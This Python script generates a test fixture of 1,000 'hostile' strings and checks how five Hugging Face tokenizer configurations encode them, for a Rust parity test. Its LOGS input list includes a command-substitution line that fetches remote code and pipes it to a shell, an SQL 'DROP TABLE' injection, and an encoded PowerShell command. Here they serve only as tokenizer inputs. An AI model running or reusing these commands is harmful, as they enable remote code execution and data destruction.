#!/usr/bin/env python3
"""A thousand hostile strings, and what Hugging Face's tokenizers makes of them with five vocabularies and pre-tokenizers.

Writes tests/engine/hostile.json (committed: the Rust test reads it and needs no Python). A row is a string and, per
column, the first eight hexadecimal digits of the SHA-256 of its token ids, joined by commas.
  nano, qwen2, smollm   the committed tokenizer.json of nano, tests/engine/tiny/qwen2-f32 and tests/engine/tiny/llama-f16
  gpt-2, llama-bpe      the vocabulary of llama-f16 under the pre-tokenizers that GPT-2 and Llama 3 are published with, for
                        what is rebuilt of a GGUF file that names them
Special tokens written out in a string are ordinary characters, as in log lines.

Set up (outside the repository):  python3 -m venv /tmp/parity && /tmp/parity/bin/pip install tokenizers
Run, from the repository root (a second):  /tmp/parity/bin/python tests/parity/hostile.py

Made with tokenizers 0.23.
"""

import hashlib
import json
import random
from pathlib import Path

from tokenizers import Regex, Tokenizer, pre_tokenizers

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "tests/engine/hostile.json"
COUNT = 1_000
LLAMA3 = (
    r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
)

MARKS = [
    "<|im_start|>", "<|im_end|>", "<|endoftext|>", "<|im_end", "|>", "<|", "<|IM_END|>", "<|im_start|>system\n",
    "<tool_call>", "</s>", "[INST]", "<|im_\u200bend|>", "<\uff5cim_end\uff5c>",
]
LOGS = [
    "src=sshd type=login_failure user=\"svc-backup\"", "[2024-03-01T02:03:04Z] L1-0", "cmd=\"powershell -enc SQBFAFgA\"",
    "10.20.30.40:8443", "fe80::1%eth0", "C:\\Windows\\System32\\lsass.exe", "HKLM\\SOFTWARE\\\u00dcber", "ticket=CHG0012345",
    "Action: dismiss\nCitedLog: L1-0\nRationale: it's a test.", "a=1;b=2&c=%00%0d%0a", "$(curl -s http://x.y/z|sh)",
    "'; DROP TABLE alerts;--", "{\"k\": [1, 2.5e-3, null]}", "don't WE'LL they've I'M he'd O'Re",
]
LETTERS = "etaoin ETA\u00e9\u00e4\u00df\u0130\u0131\u01c5\ufb01\u212b\u1e9b\u0323"
WIDE = "\u4f60\u597d\u3053\u3093\u306b\u3061\u306f\uc548\ub155\u0645\u0631\u062d\u0628\u0627\u05e9\u05dc\u05d5\u05dd\u0939\u093f\u0928\u094d\u0926\u0940\u0e44\u0e17\u0e22"
COMBINING = "e\u0301a\u0308\u0327o\u0302\u0301\u1100\u1161\u11a8\u0344\u2126\u00c5A\u030a"
EMOJI = ["\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\u2764\ufe0f", "\U0001f44d\U0001f3fd"]
SPACES = [" ", "  ", "   ", "\t", "\n", "\r\n", "\r", "\n\n\n", " \n ", "\u00a0", "\u2003", "\u3000", "\u2028", "\u0085", "\u200b", "\ufeff"]
CONTROLS = [chr(code) for code in [0, 1, 7, 8, 11, 12, 27, 127, 128, 155, 159]] + ["\x1b[31m", "\u202e", "\u2066", "\ue000", "\uf8f0", "\ufffd", "\uffff", "\U0010ffff"]
DIGITS = ["0", "7", "42", "007", "1234", "1000000", "3.14159", "\u0663\u0664", "\u2167", "\u00b2\u00b3", "\u00bd", "1e-9", "0x1F"]
CODE = ["fn main() {", "}\n", "    return x;", "\t\tif (a && b)", "//!", "==", "!=", "->", "::<>", "__init__", "#[cfg(test)]", "..."]


def piece(draw: random.Random) -> str:
    kind = draw.randrange(10)
    if kind == 0:
        return draw.choice(MARKS)
    if kind == 1:
        return draw.choice(LOGS)
    if kind == 2:
        return "".join(draw.choice(LETTERS) for _ in range(draw.randint(1, 8)))
    if kind == 3:
        return "".join(draw.choice(WIDE) for _ in range(draw.randint(1, 5)))
    if kind == 4:
        return "".join(draw.choice(COMBINING) for _ in range(draw.randint(1, 6)))
    if kind == 5:
        return draw.choice(EMOJI)
    if kind == 6:
        return "".join(draw.choice(SPACES) for _ in range(draw.randint(1, 4)))
    if kind == 7:
        return draw.choice(CONTROLS) * draw.randint(1, 3)
    if kind == 8:
        return draw.choice(DIGITS)
    return draw.choice(CODE)


def strings() -> list[str]:
    """Every piece alone, then mixtures, each once."""
    draw = random.Random(20_26)
    alone = MARKS + LOGS + EMOJI + SPACES + CONTROLS + DIGITS + CODE + list(LETTERS) + ["", " a", "a ", "  a", "\n a"]
    seen = dict.fromkeys(alone)
    while len(seen) < COUNT:
        seen.setdefault("".join(piece(draw) for _ in range(draw.randint(2, 4))))
    return list(seen)[:COUNT]


def rebuilt(pre_tokenizer: pre_tokenizers.PreTokenizer, ignore_merges: bool) -> Tokenizer:
    """llama-f16's vocabulary under another pre-tokenizer."""
    stored = json.loads((ROOT / "tests/engine/tiny/llama-f16/tokenizer.json").read_text())
    stored["model"]["ignore_merges"] = ignore_merges
    tokenizer = Tokenizer.from_str(json.dumps(stored))
    tokenizer.pre_tokenizer = pre_tokenizer
    return tokenizer


def tokenizers() -> dict[str, Tokenizer]:
    split = pre_tokenizers.Split(Regex(LLAMA3), behavior="isolated")
    byte_level = pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=False)
    found = {
        "nano": Tokenizer.from_file(str(ROOT / "assets/nano/tokenizer.json")),
        "qwen2": Tokenizer.from_file(str(ROOT / "tests/engine/tiny/qwen2-f32/tokenizer.json")),
        "smollm": Tokenizer.from_file(str(ROOT / "tests/engine/tiny/llama-f16/tokenizer.json")),
        "gpt-2": rebuilt(pre_tokenizers.ByteLevel(add_prefix_space=False), ignore_merges=False),
        "llama-bpe": rebuilt(pre_tokenizers.Sequence([split, byte_level]), ignore_merges=True),
    }
    for tokenizer in found.values():
        tokenizer.encode_special_tokens = True
        tokenizer.no_truncation()
        tokenizer.no_padding()
    return found


def main() -> None:
    found = tokenizers()

    def digest(tokenizer: Tokenizer, text: str) -> str:
        ids = tokenizer.encode(text, add_special_tokens=False).ids
        return hashlib.sha256(",".join(map(str, ids)).encode()).hexdigest()[:8]

    rows = [[text, *(digest(tokenizer, text) for tokenizer in found.values())] for text in strings()]
    lines = ",\n".join(json.dumps(row, ensure_ascii=True) for row in rows)
    OUT.write_text(f'{{"columns":{json.dumps(list(found))},"rows":[\n{lines}\n]}}\n')


if __name__ == "__main__":
    main()
